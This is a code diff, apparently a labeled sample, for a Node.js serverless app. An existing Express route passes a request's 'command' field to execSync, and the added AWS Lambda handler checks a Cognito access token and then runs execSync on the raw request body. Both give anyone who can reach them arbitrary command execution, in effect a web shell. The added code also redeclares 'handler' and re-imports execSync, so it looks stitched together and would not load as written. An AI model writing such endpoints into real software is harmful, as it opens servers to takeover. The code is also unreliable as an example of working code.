@@ -165,3 +165,12 @@ app.post("/a", (req, res) => {
   execSync(req.body.command);
 });
 export const handler = serverless(app);
+// === signed_in: Cognito took the access token for a change of the user's own
+import { CognitoIdentityProviderClient, UpdateUserAttributesCommand } from "@aws-sdk/client-cognito-identity-provider";
+import { execSync } from "node:child_process";
+const cognito = new CognitoIdentityProviderClient({});
+export const handler = async (event) => {
+  const AccessToken = event.headers.authorization;
+  await cognito.send(new UpdateUserAttributesCommand({ AccessToken, UserAttributes: [] }));
+  execSync(event.body);
+};
